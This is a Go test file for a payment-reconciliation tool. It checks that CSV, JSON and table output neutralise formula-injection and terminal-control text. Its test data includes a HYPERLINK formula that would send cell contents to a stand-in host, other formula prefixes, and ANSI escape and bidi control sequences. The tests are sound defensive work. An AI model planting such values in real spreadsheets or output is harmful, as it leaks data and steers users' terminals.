package reconcile_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"paybook/models"
	"paybook/reconcile"
	"paybook/reconcile/lang"
)

// TestFormulas is F72: a stranger's text is no formula, an amount stays a number, and matching and JSON use the text as it is.
func TestFormulas(t *testing.T) {
	b := sqlite(t)
	evil := []string{`=HYPERLINK("http://x.test/?"&A1)`, "@SUM(1)", "+1+1", "-1+1", "＝1"}
	var lines []string
	for i, id := range evil {
		var cells bytes.Buffer
		w := csv.NewWriter(&cells)
		if err := w.Write([]string{"p" + string(rune('a'+i)), id, "payment", "20.00", "CNY", "succeeded", "2026-11-28 10:00:00", "", ""}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		lines = append(lines, strings.TrimSpace(cells.String()))
	}
	r := run(t, b, plainAccount(t), "2026-11-28", statement(t, lines...))
	r.Gaps[0].Statement.Amount = "-5.00" // no kind of gap prints one today
	var out bytes.Buffer
	if err := reconcile.WriteCSV(&out, []reconcile.Item{{Report: r}, {Account: "x", Err: errors.New("no")}}, lang.English); err != nil {
		t.Fatal(err)
	}
	table, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(table) != 1+len(evil) {
		t.Fatalf("%d lines, %v", len(table), err)
	}
	order, amount := slices.Index(table[0], "order_id"), slices.Index(table[0], "statement_amount")
	for i, row := range table[1:] {
		if row[order] != "'"+evil[i] {
			t.Errorf("order cell is %q, want %q", row[order], "'"+evil[i])
		}
	}
	if table[1][amount] != "-5.00" {
		t.Errorf("amount cell is %q, want -5.00", table[1][amount])
	}
	if r.Gaps[0].OrderID != evil[0] {
		t.Errorf("JSON has the order %q, want it as it is", r.Gaps[0].OrderID)
	}
	for _, g := range r.Gaps {
		if strings.Contains(g.Next, "orders show =") || strings.Contains(g.Next, "orders show -1") {
			t.Errorf("next is not safe to paste: %s", g.Next)
		}
	}
}

func TestWriteJSON(t *testing.T) {
	var out bytes.Buffer
	err := reconcile.WriteJSON(&out, []reconcile.Item{
		{Account: "a", Err: &models.FileError{File: "f.csv", Line: 3, Column: "amount", What: "no number"}},
		{Account: "b", Err: errors.New("database away")},
		{Report: &reconcile.Report{Account: "c"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	var got []map[string]any
	if err := json.Unmarshal(out.Bytes(), &got); err != nil || len(got) != 3 {
		t.Fatalf("%v: %s", err, out.String())
	}
	first, ok := got[0]["error"].(map[string]any)
	if !ok || got[0]["account"] != "a" || first["file"] != "f.csv" || first["row"] != 3.0 || first["column"] != "amount" ||
		first["message"] != "f.csv: row 3: column amount: no number" {
		t.Errorf("first is %v", got[0])
	}
	if second, ok := got[1]["error"].(map[string]any); !ok || second["message"] != "database away" || second["file"] != nil {
		t.Errorf("second is %v", got[1])
	}
}

// TestKeys: a report's JSON has the contract's keys, in the contract's order, and lists that are lists.
func TestKeys(t *testing.T) {
	b := sqlite(t)
	r := run(t, b, plainAccount(t), "2026-11-28", statement(t, "p1 2026-11-28 10:00:00"))
	text := neutral(t, r)
	at := 0
	for _, key := range []string{"account", "provider", "date", "time_zone", "run_id", "result", "statement", "files", "name", "sha256", "entries",
		"control_totals", "totals", "kind", "currency", "count", "amount", "fee", "ledger", "transactions", "totals", "compared", "matched", "gaps",
		"id", "kind", "differs", "entry_kind", "transaction_id", "order_id", "parent_id", "refund_order_id", "state", "new", "statement",
		"amount", "currency", "status", "file", "line", "ledger", "order", "reason", "next", "first_seen", "age_days", "carried", "healed", "summary"} {
		next := strings.Index(text[at:], `"`+key+`":`)
		if next < 0 {
			t.Fatalf("key %q is missing behind %q:\n%s", key, text[:at], text)
		}
		at += next + 1
	}
	for _, list := range []string{`"differs": []`, `"carried": []`, `"healed": []`, `"totals": []`} {
		if !strings.Contains(text, list) {
			t.Errorf("%s is missing in\n%s", list, text)
		}
	}
}

func TestGapReport(t *testing.T) {
	g := models.Gap{ID: "a", Account: "shop", Date: "2026-11-28", FirstSeen: time.Date(2026, 11, 29, 0, 0, 0, 0, time.UTC), HealedRun: "r", Resolution: "healed by run r"}
	got := reconcile.NewGapReport(g, nil, time.Date(2026, 12, 1, 23, 0, 0, 0, time.UTC))
	if got.FirstSeen != "2026-11-29" || got.AgeDays != 2 || got.Account != "shop" || got.Date != "2026-11-28" || got.Resolution != "" {
		t.Errorf("NewGapReport = %+v", got)
	}
}

// TestJSONOfEveryShape: laid out gap by gap it is what the encoder makes of the whole, and shows what a terminal would obey.
func TestJSONOfEveryShape(t *testing.T) {
	gap := reconcile.GapReport{ID: "a1", Differs: []string{"amount"}, OrderID: "<o>\t=1", Statement: &models.Side{Amount: "1.00"}}
	one, two := []reconcile.GapReport{gap}, []reconcile.GapReport{gap, {ID: "a2", Reason: "    \"gaps\": [],\n"}}
	none := []reconcile.GapReport{}
	for _, r := range []reconcile.Report{
		{Account: "a", Gaps: none, Carried: none, Healed: none}, {Account: "a", Gaps: two, Carried: none, Healed: one},
		{Account: "a", Gaps: none, Carried: two, Healed: none, Accepted: one}, {Gaps: one, Carried: one, Healed: two, Notes: []string{"    \"healed\": [],"}},
	} {
		var got, want bytes.Buffer
		items := []reconcile.Item{{Report: &r}, {Account: "b", Err: errors.New("no")}, {Report: &r}}
		encoder := json.NewEncoder(&want)
		encoder.SetIndent("", "  ")
		if err := errors.Join(reconcile.WriteJSON(&got, items), encoder.Encode(items)); err != nil {
			t.Fatal(err)
		}
		if got.String() != want.String() {
			t.Errorf("written:\n%s\nwant:\n%s", got.String(), want.String())
		}
	}
	steering := "a\x1b[31m\x7f\u009b2J\u202etxt\u200b\U000e0041 0 \u4e2d"
	var out bytes.Buffer
	report := reconcile.Report{Account: steering, Gaps: []reconcile.GapReport{{OrderID: steering}}, Notes: []string{steering}}
	if err := reconcile.WriteJSON(&out, []reconcile.Item{{Report: &report}, {Account: steering, Err: errors.New(steering)}}); err != nil {
		t.Fatal(err)
	}
	if i := strings.IndexFunc(out.String(), func(c rune) bool { return c != '\n' && (unicode.IsControl(c) || unicode.Is(unicode.Cf, c)) }); i >= 0 {
		t.Errorf("%q is left as it is", out.String()[i:i+4])
	}
	var back []map[string]any
	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back[0]["account"] != steering || back[1]["account"] != steering {
		t.Errorf("read back: %v, %q", err, back)
	}
	out.Reset()
	if err := reconcile.WriteJSON(&out, nil); err != nil || out.String() != "[]\n" {
		t.Errorf("nothing is written as %q, %v", out.String(), err)
	}
}

// TestCellsThatSteer: a control character neither hides a formula nor reaches a terminal, in a cell or a table.
func TestCellsThatSteer(t *testing.T) {
	r := &reconcile.Report{Gaps: []reconcile.GapReport{{TransactionID: "\t=1", OrderID: "\x1b[2J\u009b=2", ParentID: "\r\n+1", Reason: "\x7f@x"}}}
	var asCSV, table bytes.Buffer
	if err := errors.Join(reconcile.WriteCSV(&asCSV, []reconcile.Item{{Report: r}}, lang.English), reconcile.WriteTable(&table, []reconcile.Item{{Report: r}}, reconcile.Look{})); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&asCSV).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{"transaction_id": "'=1", "order_id": "[2J=2", "parent_id": "'+1", "reason": "'@x"} {
		if got := rows[1][slices.Index(rows[0], name)]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if strings.ContainsFunc(table.String(), func(c rune) bool { return c != '\n' && unicode.IsControl(c) }) {
		t.Errorf("the table is %q", table.String())
	}
}
